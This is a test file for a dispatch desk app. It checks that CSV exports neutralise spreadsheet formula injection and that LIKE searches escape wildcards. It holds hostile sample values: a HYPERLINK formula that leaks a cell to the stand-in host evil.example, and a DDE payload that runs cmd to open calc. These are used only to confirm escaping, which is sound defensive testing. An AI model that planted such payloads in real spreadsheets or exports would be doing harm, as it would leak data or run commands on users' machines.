/**
 * Issue 11 #9: hostile values in what the desk writes and searches. Every CSV goes through one
 * helper (papaparse with escapeFormulae), every list search through one LIKE helper with ESCAPE.
 */
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { call } from '../../../electron/services/dispatch';
import { testDesk, type TestDesk } from '../../helpers/context';
import { scorecardCsv } from '../scorecards/helpers';
import { DATE, importSheet, seedBoard } from '../board/fixture';

let desk: TestDesk;
afterEach(() => desk?.close());

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const csvText = (f: { base64: string }) => Buffer.from(f.base64, 'base64').toString('utf8').replace(/^\uFEFF/, '');

describe('CSV exports escape spreadsheet formulas', () => {
  it('scorecards.atRiskCsv writes a formula-looking name as text', async () => {
    desk = testDesk();
    await call(desk.ctx, 'roster.upsert', { transporterId: 'A1B2C3D4E5F6G7', name: EVIL });
    await call(desk.ctx, 'roster.upsert', { transporterId: 'B2C3D4E5F6G7H8', name: '+1 555 0100' });
    const imp = (week: string, csv: string) => call(desk.ctx, 'scorecards.import', { fileName: `${week}.csv`, content: csv, week, dryRun: false });
    await imp('2026-W46', scorecardCsv([{ tid: 'A1B2C3D4E5F6G7', name: 'x', tier: 'Fantastic' }, { tid: 'B2C3D4E5F6G7H8', name: 'y', tier: 'Fantastic' }]));
    await imp('2026-W47', scorecardCsv([{ tid: 'A1B2C3D4E5F6G7', name: 'x', tier: 'Poor' }, { tid: 'B2C3D4E5F6G7H8', name: 'y', tier: 'Poor' }]));
    const text = csvText(await call(desk.ctx, 'scorecards.atRiskCsv', {}));
    const rows = Papa.parse<string[]>(text.trim(), { header: false }).data;
    const names = rows.slice(1).map((r) => r[1]);
    expect(names).toContain(`'${EVIL}`);
    expect(names).toContain("'+1 555 0100");
    // No cell of the file starts a formula.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('board.loadout CSV goes through the same helper', async () => {
    desk = testDesk();
    const { drivers, vans } = await seedBoard(desk.ctx);
    desk.ctx.db.$client.prepare('UPDATE drivers SET name = ? WHERE id = ?').run('@SUM(1+1)*cmd|" /C calc"!A0', drivers.Ana);
    await importSheet(desk);
    for (const id of Object.values(drivers)) await call(desk.ctx, 'checkin.set', { date: DATE, driverId: id, status: 'checked_in' });
    const view = await call(desk.ctx, 'board.list', { date: DATE });
    await call(desk.ctx, 'board.assign', { routeId: view.routes.find((r) => r.code === 'CX1')!.id, driverId: drivers.Ana, vanId: vans['CDV-1'] });
    const rows = Papa.parse<string[]>(csvText(await call(desk.ctx, 'board.loadout', { date: DATE, format: 'csv' })).trim(), { header: false }).data;
    expect(rows[1]![4]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('list searches match %, _ and \\ literally', () => {
  it('roster, fleet and devices', async () => {
    desk = testDesk();
    for (const [tid, name] of [
      ['A0000000000001', 'Promo 100% Ana'],
      ['A0000000000002', 'Promo 1000 Ben'],
      ['A0000000000003', 'snake_case Cy'],
      ['A0000000000004', 'snakeXcase Dee'],
      ['A0000000000005', 'back\\slash Eve'],
    ]) {
      await call(desk.ctx, 'roster.upsert', { transporterId: tid, name });
    }
    const names = async (search: string) => (await call(desk.ctx, 'roster.list', { search })).map((d) => d.name);
    expect(await names('100%')).toEqual(['Promo 100% Ana']);
    expect(await names('snake_case')).toEqual(['snake_case Cy']);
    expect(await names('k\\s')).toEqual(['back\\slash Eve']);
    expect(await names('%')).toEqual(['Promo 100% Ana']);
    expect(await names('promo')).toHaveLength(2); // still case-insensitive
    await call(desk.ctx, 'devices.upsert', { identifier: 'dev_1', label: '' });
    await call(desk.ctx, 'devices.upsert', { identifier: 'devX1', label: '' });
    expect((await call(desk.ctx, 'devices.list', { search: 'dev_1' })).map((d) => d.identifier)).toEqual(['dev_1']);
    expect(await call(desk.ctx, 'fleet.list', { search: '%' })).toEqual([]);
  });
});
